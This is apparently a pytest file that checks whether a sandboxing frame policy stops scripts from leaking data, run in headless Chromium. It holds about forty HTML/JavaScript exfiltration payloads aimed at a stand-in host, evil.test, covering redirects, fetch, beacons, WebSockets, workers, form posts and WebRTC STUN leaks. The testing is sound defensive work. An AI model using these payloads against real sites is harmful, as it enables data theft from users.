"""A real browser shows programs in our frames: they run, and send nothing anywhere.

Every name is resolved to this machine, where listeners on other ports stand for all other origins and count what comes.
The same programs without our frames are the control: there, they get through.
"""

# ruff: noqa: E501 (a program reads best on one line)

from __future__ import annotations

import http.server
import os
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from sandbox_kernel.policy import frame

SECONDS = 3
"""How long the programs have in the page, from its load."""

SWITCHES = """--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking
--disable-component-update --disable-sync""".split()  # noqa: SIM905


@dataclass
class Evil:
    """Another origin: what reached it, over TCP (its first line) and UDP."""

    requests: list[str] = field(default_factory=list)
    datagrams: list[bytes] = field(default_factory=list)
    connections: int = 0
    tcp: int = 0
    udp: int = 0

    def paths(self) -> set[str]:
        return {request.split()[1].lstrip("/") for request in self.requests if request.count(" ") > 1}


@pytest.fixture
def evil() -> Iterator[Evil]:
    seen = Evil()
    listener = socket.create_server(("127.0.0.1", 0))
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", 0))
    seen.tcp, seen.udp = listener.getsockname()[1], datagrams.getsockname()[1]

    def answer(connection: socket.socket) -> None:
        with connection:
            connection.settimeout(SECONDS)
            try:
                if line := connection.recv(4096).partition(b"\r\n")[0]:
                    seen.requests.append(line.decode("latin-1"))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            except OSError:
                return

    def accept() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            seen.connections += 1
            threading.Thread(target=answer, args=(connection,), daemon=True).start()

    def receive() -> None:
        while data := datagrams.recv(4096):
            seen.datagrams.append(data)

    threads = [threading.Thread(target=target, daemon=True) for target in (accept, receive)]
    for thread in threads:
        thread.start()
    yield seen
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    datagrams.sendto(b"", datagrams.getsockname())
    for thread in threads:
        thread.join(5)
    datagrams.close()


def programs(evil: Evil) -> dict[str, str]:
    """Return ways out of a frame, by name; each aims at an address that ends in its name."""
    at = f"http://evil.test:{evil.tcp}"
    stun = f"new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{evil.udp}'}}]}})"
    call = f"const c={stun};c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))"
    return {
        "location": f"<script>location='{at}/location?leak'</script>",
        "later": f"<script>setTimeout(()=>location.assign('{at}/later'),100)</script>",
        "refresh": f"<script></script><meta http-equiv=refresh content='0;url={at}/refresh'>",
        "blob": f"<script>location=URL.createObjectURL(new Blob([`<img src='{at}/blob'>`],{{type:'text/html'}}))</script>",
        "data": f"<script>location='data:text/html,'+encodeURIComponent(`<img src='{at}/data'>`)</script>",
        "top": f"<script>try{{top.location='{at}/top'}}catch(e){{}}</script>",
        "parent": f"<script>try{{parent.location='{at}/parent'}}catch(e){{}}</script>",
        "open": f"<script>window.open('{at}/open')</script>",
        "click": f"<a id=a href='{at}/click' ping='{at}/ping'>x</a><script>a.click()</script>",
        "download": f"<a id=a href='{at}/download' download>x</a><script>a.click()</script>",
        "form": f"<form id=f action='{at}/form' method=post></form><script>f.submit()</script>",
        "img": f"<script></script><img src='{at}/img'><img srcset='{at}/img 1x'>",
        "css": f"<script></script><style>body{{background:url({at}/css)}}</style>",
        "link": f"<script></script><link rel=stylesheet href='{at}/link'>",
        "prefetch": f"<script></script><link rel=prefetch href='{at}/prefetch'>",
        "preload": f"<script></script><link rel=preload as=script href='{at}/preload'>",
        "fetch": f"<script>fetch('{at}/fetch',{{mode:'no-cors'}})</script>",
        "xhr": f"<script>x=new XMLHttpRequest;x.open('GET','{at}/xhr');x.send()</script>",
        "beacon": f"<script>navigator.sendBeacon('{at}/beacon','x')</script>",
        "events": f"<script>new EventSource('{at}/events')</script>",
        "ws": f"<script>new WebSocket('ws://evil.test:{evil.tcp}/ws')</script>",
        "worker": f"<script>new Worker(URL.createObjectURL(new Blob([`importScripts('{at}/worker')`])))</script>",
        "script": f"<script></script><script src='{at}/script'></script>",
        "import": f"<script>import('{at}/import')</script>",
        "iframe": f"<script></script><iframe src='{at}/iframe'></iframe>",
        "inner": f"<iframe id=i></iframe><script>i.contentWindow.location='{at}/inner'</script>",
        "target": f"<iframe name=n></iframe><a id=a href='{at}/target' target=n>x</a><script>a.click()</script>",
        "srcdoc": f"<script></script><iframe srcdoc=\"<img src='{at}/srcdoc'><script>location='{at}/srcdoc'</script>\"></iframe>",
        "object": f"<script></script><object data='{at}/object'></object><embed src='{at}/object'>",
        "video": f"<script></script><video src='{at}/video' poster='{at}/video'></video>",
        "svg": f"<svg><image href='{at}/svg'/></svg>",
        "rules": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{at}/rules"]}}]}}</script>',
        "stun": f"<script>{call}</script>",
        "stun in a frame": f'<script></script><iframe srcdoc="<script>{call}</script>"></iframe>',
        "stun in a made frame": "<script>const f=document.createElement('iframe');"
        f"f.srcdoc='<script>'+{call!r}+'</'+'script>';document.body.append(f)</script>",
        "stun by a handler": f'<script></script><img src=x onerror="{call}">',
        "page": "<script>top.postMessage('ran','*');try{top.document.title='taken'}catch(e){}</script>",
    }


def show(bodies: list[str], evil: Evil, folder: Path) -> list[str]:
    """Load a page of `bodies` in a browser, and return the paths that the page itself asked its own server for."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    assert browser, "this test needs a browser: apt-get install chromium"
    page = f"""<!DOCTYPE html><title>clean</title><link rel=icon href=data:,>
        <script>addEventListener('message',()=>fetch('/message'))</script>{"".join(bodies)}
        <script>setTimeout(()=>fetch('/done?'+document.title),{SECONDS}000)</script>"""
    asked: list[str] = []
    done = threading.Event()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode() if self.path == "/page" else b"")
            if self.path.startswith("/done"):
                done.set()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        process = subprocess.Popen(
            [
                browser,
                *SWITCHES,
                f"--user-data-dir={folder}",
                "--host-resolver-rules=MAP *.test 127.0.0.1",
                f"http://127.0.0.1:{server.server_port}/page",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            assert done.wait(40), "the page did not come to its end"
        finally:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(10)
            server.shutdown()
    return asked


def test_programs_in_our_frames_run_and_send_nothing(evil: Evil, tmp_path: Path) -> None:
    """No request of any kind; a browser may connect before it refuses to navigate, but then says nothing."""
    asked = show([frame.wrap(program) for program in programs(evil).values()], evil, tmp_path)
    assert evil.requests == []
    assert evil.datagrams == []
    assert "/message" in asked
    assert "/done?clean" in asked


def control(evil: Evil, tmp_path: Path, names: list[str], wrap: Callable[[str], str]) -> set[str]:
    show([wrap(programs(evil)[name]) for name in names], evil, tmp_path)
    return evil.paths()


def test_without_our_frames_the_same_programs_get_through(evil: Evil, tmp_path: Path) -> None:
    """The control for the policy and the guard; programs that would leave the page are left out."""
    names = ["img", "css", "link", "fetch", "xhr", "beacon", "events", "ws", "worker", "script", "import"]
    names += ["iframe", "inner", "target", "srcdoc", "object", "video", "svg", "stun", "page"]
    got = control(evil, tmp_path, names, lambda program: f"<div>{program}</div>".replace("const c=", "var c="))
    assert set(names) - got <= {"stun", "page", "inner", "target"}
    assert evil.datagrams


def test_in_a_single_frame_a_program_navigates_away_with_a_secret(evil: Evil, tmp_path: Path) -> None:
    """The control for the frame around the frame: the same policy alone does not hold a document in its place."""

    def single(program: str) -> str:
        outer = frame._SRCDOC.search(frame.wrap(program))
        assert outer is not None
        inner = frame._SRCDOC.search(frame._unquote(outer[1]))
        assert inner is not None
        return f'<iframe sandbox="allow-scripts" srcdoc="{inner[1]}"></iframe>'

    got = control(evil, tmp_path, ["location", "later", "fetch", "img"], single)
    assert {name.partition("?")[0] for name in got} == {"location", "later"}
